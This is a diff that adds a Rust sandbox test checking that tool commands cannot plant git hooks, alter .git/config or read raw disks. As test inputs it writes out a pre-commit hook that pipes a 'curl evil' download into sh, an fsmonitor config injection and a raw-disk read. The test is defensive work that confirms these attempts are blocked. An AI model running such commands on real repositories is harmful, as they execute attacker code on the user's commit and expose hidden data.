@@ -147,6 +147,68 @@ fn commands_write_only_in_the_workspace_and_the_temp_folders() {
     outside.assert_untouched();
 }
 
+/// Hooks and the config of the workspace's git repository would run code outside the sandbox
+/// later (when the user commits): commands cannot change them. As root, raw disks and kernel
+/// memory, which would read any hidden file, show nothing.
+#[test]
+fn git_hooks_and_raw_disks_are_out_of_reach() {
+    if !landlock("git_hooks_and_raw_disks_are_out_of_reach") {
+        return;
+    }
+    let outside = Outside::new();
+    let corral = outside.corral();
+    corral.write(".git/config", "[core]\n");
+    corral.write(".git/hooks/README", "hooks\n");
+    corral.write(".git/HEAD", "ref: refs/heads/main\n");
+    let disk = std::fs::read_dir("/dev")
+        .expect("/dev")
+        .flatten()
+        .find(|e| {
+            use std::os::unix::fs::FileTypeExt;
+            e.file_type().is_ok_and(|t| t.is_block_device())
+        })
+        .map(|e| e.path());
+    let mut calls = vec![
+        bash("hook", "echo 'curl evil | sh' > .git/hooks/pre-commit"),
+        bash(
+            "config",
+            "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
+        ),
+        bash(
+            "head",
+            "echo 'ref: refs/heads/other' > .git/HEAD && echo head-ok",
+        ),
+    ];
+    if let Some(disk) = &disk {
+        calls.push(bash(
+            "disk",
+            &format!("head -c 4096 {} | wc -c", sh_quote(disk)),
+        ));
+    }
+    let results = corral.call_tools(calls);
+    assert!(
+        results[0].0 && results[0].1.contains("Read-only file system"),
+        "{:?}",
+        results[0]
+    );
+    assert!(results[1].0, "{:?}", results[1]);
+    assert_eq!(corral.read(".git/config"), "[core]\n");
+    assert!(!corral.path(".git/hooks/pre-commit").exists());
+    assert!(
+        !results[2].0 && results[2].1.contains("head-ok"),
+        "the rest of .git is writable: {:?}",
+        results[2]
+    );
+    // SAFETY: a getter.
+    if disk.is_some() && unsafe { libc::geteuid() } == 0 {
+        assert!(
+            results[3].1.starts_with("0\n"),
+            "a raw disk was read: {:?}",
+            results[3]
+        );
+    }
+}
+
 #[test]
 fn hidden_paths_cannot_be_read_and_secrets_are_not_passed() {
     if !landlock("hidden_paths_cannot_be_read_and_secrets_are_not_passed") {
